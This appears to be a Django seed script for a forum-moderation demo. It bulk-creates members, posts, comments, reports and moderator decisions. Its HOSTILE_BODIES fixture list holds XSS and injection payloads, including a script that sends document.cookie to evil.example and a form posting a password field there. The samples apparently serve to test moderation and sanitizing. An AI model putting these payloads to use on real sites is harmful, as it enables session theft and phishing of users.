"""The forum's content for the demo: members (users of the product, some suspended, some
with broken addresses), their posts and comments (some hostile: content under moderation is
untrusted), each reported one to three times, as the forum's report button reports them.
About one item in ten is decided already, by the moderator, with its effect on the post.

Seeding a million items one `steward.report` at a time would take hours, so the rows are
written in bulk, a chunk of posts per transaction, but built by the same code the app runs:
the accounts adapter describes each member (`account_fields`), the Source snapshots each
object and picks its queue (`new_item`), the audit events carry the data the services
write (`opened_event_data`, `decision_event_data`), the Source's own method applies each
decision to its post (`run_source_method`), and `reported` and `decided` are sent after
each chunk commits. The database's triggers stamp feed_seq on every row, as for any
write. test_seed_demo.py seeds the same plan both ways, in bulk and through
`steward.report` and `decide_item`, and compares every row.

The random draws happen first, in the order the seed has always made them
(`plan_content`), so a given --seed gives the same content as before.
"""

from dataclasses import dataclass
from datetime import timedelta

from django.contrib.auth import get_user_model
from django.contrib.auth.hashers import make_password
from django.contrib.auth.models import Group
from django.contrib.contenttypes.models import ContentType
from django.db import transaction
from django.utils import timezone

from forum.models import Comment, Post
from forum.seed.bulk import insert
from steward import signals
from steward.accounts.adapter import get_adapter
from steward.accounts.sync import account_fields, account_status
from steward.content.registry import site
from steward.content.reporting import new_item, opened_event_data
from steward.models import Account, AuditEvent, Decision, Item, Queue, Report, Suspension
from steward.services.items import ACTION_TO_STATE, decision_event_data, run_source_method

MEMBER_PASSWORD = "member-demo"

TOPICS = [
    "my sourdough starter",
    "the new release",
    "weekend hiking trip",
    "home network setup",
    "the city council vote",
    "learning Rust",
    "vintage synthesizers",
    "balcony tomatoes",
    "the football match",
    "remote work",
    "a used car purchase",
    "my cat's diet",
]

TITLES = [
    "Thoughts on {t}",
    "Question about {t}",
    "Anyone else tried {t}?",
    "Update on {t}",
    "Hot take: {t} is overrated",
    "Help needed with {t}",
    "Photos from {t}",
]

BODIES = [
    "<p>I have been thinking about <b>{t}</b> for a while. What do you all think?</p>",
    "<p>Quick question about {t}:</p><ul><li>Is it worth it?</li><li>Any tips?</li></ul>",
    '<p>Here is my write-up on {t}. <a href="https://example.com/post">Full post</a>.</p>',
    '<p>BUY CHEAP WATCHES NOW!!! best prices on {t} <a href="https://spam.example">click</a></p>',
    "<p>You are an idiot if you disagree about {t}. Everyone like you should leave.</p>",
    "<blockquote>Someone said {t} was fine.</blockquote><p>I disagree, strongly.</p>",
]

HOSTILE_BODIES = [
    "<p>Nice post!</p><script>fetch('https://evil.example/steal?c='+document.cookie)</script>",
    "<p>Look at this</p><img src=x onerror=\"alert('xss')\">",
    '<p><a href="javascript:alert(document.domain)">Click for a prize</a></p>',
    '<svg onload="alert(1)"><circle r="10"/></svg><p>Cute circle</p>',
    '<p>Tracking pixel ahead</p><img src="http://127.0.0.1:9/x.png" width="1" height="1">',
    '<iframe src="https://evil.example/"></iframe><p>Embedded thing</p>',
    '<p style="background:url(http://127.0.0.1:9/bg.png)">Styled</p><form action="https://evil.example"><input name=password></form>',
]

REASONS = [
    ("spam", "Looks like advertising"),
    ("harassment", "Insults another member"),
    ("nsfw", "Not safe for work image"),
    ("other", "Something feels off"),
    ("spam", ""),
    ("other", "Possible scam link"),
]


# Posts per transaction: big enough that bulk inserts pay off, small enough that a
# million items are many transactions (each its own feed_seq stamp), as in real use.
CHUNK_POSTS = 10_000


@dataclass
class ContentPlan:
    """Every random choice of a seed, drawn up front in the seed's historical order.

    members:   (days since joining, minutes since the last sign-in) per member
    posts:     (title template, body template, topic, author, minutes ago) per post;
               the templates are None where the post's index decides (hostile samples)
    comments:  post index -> (author, body) for the posts whose report is on a comment
    reports:   per post, (reason, note, reporter) per report, in order
    decisions: post index -> the moderator's action
    Authors and reporters are indexes into the members.
    """

    members: list
    posts: list
    comments: dict
    reports: list
    decisions: dict


def plan_content(rng, count: int) -> ContentPlan:
    member_count = max(10, count // 5)
    members = [
        (rng.randint(1, 6) if n % 3 == 1 else rng.randint(8, 900), rng.randint(1, 60 * 24 * 30))
        for n in range(member_count)
    ]
    everyone = range(member_count)
    posts = []
    for n in range(count):
        topic = rng.choice(TOPICS)
        if n < len(HOSTILE_BODIES):
            title, body = None, None
        elif n % 25 == 3:
            title, body = rng.choice(TITLES), None
        else:
            title, body = rng.choice(TITLES), rng.choice(BODIES)
        author = rng.choice(everyone)
        posts.append((title, body, topic, author, rng.randint(5, 60 * 24 * 7)))
    comments = {}
    for n in range(count):
        if n % 8 == 7:
            author = rng.choice(everyone)
            comments[n] = (author, rng.choice(BODIES).format(t="it"))
    reports, decisions = [], {}
    for n in range(count):
        made = []
        for _ in range(rng.randint(1, 3)):
            reason, note = rng.choice(REASONS)
            made.append((reason, note, rng.choice(everyone)))
        reports.append(made)
        if n % 10 == 9 and n >= len(HOSTILE_BODIES):
            decisions[n] = rng.choice(["approve", "remove", "ignore"])
    return ContentPlan(members, posts, comments, reports, decisions)


def post_text(plan: ContentPlan, n: int) -> tuple[str, str]:
    title, body, topic, _, _ = plan.posts[n]
    if n < len(HOSTILE_BODIES):
        return f"Hostile sample {n + 1}", HOSTILE_BODIES[n]
    if body is None:
        return title.format(t=topic), HOSTILE_BODIES[(n // 25) % 7]
    return title.format(t=topic), body.format(t=topic)


def seed_content(rng, count: int, moderator, progress=None) -> int:
    """`count` reported objects (posts, one in eight a comment), each an item."""
    plan = plan_content(rng, count)
    with transaction.atomic():
        users, accounts = create_members(plan)
    for start in range(0, count, CHUNK_POSTS):
        with transaction.atomic():
            create_chunk(
                plan, range(start, min(count, start + CHUNK_POSTS)), users, accounts, moderator
            )
        if progress:
            progress(min(count, start + CHUNK_POSTS))
    return count


def create_members(plan: ContentPlan):
    """The forum's users, signing in with MEMBER_PASSWORD, and their Account rows as the
    user signals would write them. Returns (users, {user pk: account})."""
    now = timezone.now()
    user_model = get_user_model()
    password = make_password(MEMBER_PASSWORD)
    trusted, _ = Group.objects.get_or_create(name="trusted")
    users = insert(
        user_model,
        [
            user_model(
                username=f"member{n:04d}",
                first_name="Member",
                last_name=str(n),
                # Some addresses are broken, as in any real product.
                email=f"member{n:04d}(at)example.com"
                if n % 13 == 5
                else f"member{n:04d}@example.com",
                password=password,
                # A third joined this week: their posts go to the "New accounts" queue
                # (forum/steward.py), so every queue has work in the demo.
                date_joined=now - timedelta(days=joined),
                last_login=now - timedelta(minutes=seen),
                # One in seventeen is suspended (below).
                is_active=n % 17 != 0,
            )
            for n, (joined, seen) in enumerate(plan.members)
        ],
    )
    through = user_model.groups.through
    insert(
        through,
        [through(user_id=u.pk, group_id=trusted.pk) for n, u in enumerate(users) if n % 7 == 0],
    )
    adapter = get_adapter()
    rows, suspended_until = [], now + timedelta(days=3)
    for n, (user, view) in enumerate(zip(users, adapter.describe_many(users), strict=True)):
        suspended = n % 17 == 0
        rows.append(
            Account(
                user_key=adapter.key(user),
                status=account_status(False, view.is_active, True if suspended else None),
                suspended_until=suspended_until if suspended else None,
                updated_at=now,
                **account_fields(view),
            )
        )
    created = insert(Account, rows)
    insert(
        Suspension,
        [
            Suspension(
                account=account,
                starts_at=now,
                ends_at=suspended_until,
                reason_code="repeat-offender",
                deactivated_user=True,
            )
            for n, account in enumerate(created)
            if n % 17 == 0
        ],
    )
    return users, {user.pk: account for user, account in zip(users, created, strict=True)}


def create_chunk(plan: ContentPlan, numbers, users, accounts, moderator) -> None:
    """Posts `numbers` of the plan, their comments, items, reports and decisions."""
    now = timezone.now()
    posts = insert(
        Post,
        [
            Post(
                author=users[plan.posts[n][3]],
                title=title,
                body_html=body,
                created_at=now - timedelta(minutes=plan.posts[n][4]),
            )
            for n in numbers
            for title, body in [post_text(plan, n)]
        ],
    )
    by_number = dict(zip(numbers, posts, strict=True))
    comments = insert(
        Comment,
        [
            Comment(post=by_number[n], author=users[author], body_html=body)
            for n in numbers
            if n in plan.comments
            for author, body in [plan.comments[n]]
        ],
    )
    targets = dict(by_number)
    targets.update(
        {n: c for n, c in zip([n for n in numbers if n in plan.comments], comments, strict=True)}
    )

    def account_of(user):
        return accounts[user.pk]

    queues = {queue.slug: queue for queue in Queue.objects.all()}
    items, reports, decided = [], [], []
    for n in numbers:
        obj = targets[n]
        source = site.source_for(obj)
        object_type = ContentType.objects.get_for_model(obj, for_concrete_model=True)
        key = str(obj.pk)
        planned = plan.reports[n]
        first_reason = planned[0][0]
        at = timezone.now()
        slug = source.get_queue(obj, first_reason)
        if slug not in queues:
            queues[slug], _ = Queue.objects.get_or_create(
                slug=slug, defaults={"name": slug.replace("-", " ").replace("_", " ").capitalize()}
            )
        item = new_item(source, obj, object_type, key, queues[slug], at, account_of)
        reporters = set()
        for index, (reason, note, reporter) in enumerate(planned):
            reporter_account = accounts[users[reporter].pk]
            if reporter_account.pk in reporters:
                continue  # the same member again: report() returns their first report
            reporters.add(reporter_account.pk)
            if index:
                at = timezone.now()
                item.updated_at = at
            reports.append(
                (
                    n,
                    Report(
                        reason=reason.strip(), note=note, reporter=reporter_account, created_at=at
                    ),
                )
            )
        action = plan.decisions.get(n)
        if action is not None:
            item.state = ACTION_TO_STATE[action]
            item.version += 1
            item.updated_at = timezone.now()
            decided.append((n, source, obj, item))
        items.append((n, item, object_type, key, first_reason))
    insert(Item, [item for _, item, *_ in items])
    item_of = {n: item for n, item, *_ in items}
    for n, report in reports:
        report.item = item_of[n]
    insert(Report, [report for _, report in reports])
    decisions = insert(
        Decision,
        [
            Decision(
                item=item,
                actor=moderator,
                action=plan.decisions[n],
                reason_code="",
                note="",
                base_version=1,
            )
            for n, _, _, item in decided
        ],
    )
    effects, decision_of = {}, {}
    for (n, source, obj, _), decision in zip(decided, decisions, strict=True):
        # The Source's own method, on the object, inside this chunk's transaction, as
        # decide_item runs it (the item is already decided, so the post's save leaves it).
        effects[n] = run_source_method(source, obj, decision)
        decision_of[n] = decision
    if decided:
        Account.objects.filter(pk__in={item.author_id for *_, item in decided}).update(
            updated_at=timezone.now()
        )
    events = []
    for n, item, object_type, key, first_reason in items:
        events.append(
            AuditEvent(
                actor=None,
                actor_username="",
                action="item.open",
                target_type="item",
                target_id=str(item.pk),
                data=opened_event_data(object_type, key, first_reason),
            )
        )
        if n in decision_of:
            events.append(
                AuditEvent(
                    actor=moderator,
                    actor_username=moderator.get_username(),
                    action="item.decide",
                    target_type="item",
                    target_id=str(item.pk),
                    data=decision_event_data(decision_of[n], effects[n]),
                )
            )
    insert(AuditEvent, events)
    first_reports = {}
    for n, report in reports:
        first_reports.setdefault(n, report)

    def announce():
        # After the commit, as report() and decide_item() send them.
        for n, report in reports:
            obj = targets[n]
            signals.reported.send_robust(
                sender=type(obj),
                obj=obj,
                item=report.item,
                report=report,
                opened=report is first_reports[n],
            )
        for (_, _, obj, item), decision in zip(decided, decisions, strict=True):
            signals.decided.send_robust(sender=type(obj), obj=obj, item=item, decision=decision)

    transaction.on_commit(announce, robust=True)


def reset_content():
    Item.objects.all().delete()
    Post.all_objects.all().delete()
    get_user_model().objects.filter(username__startswith="member").delete()
    Account.objects.filter(username__startswith="member").delete()
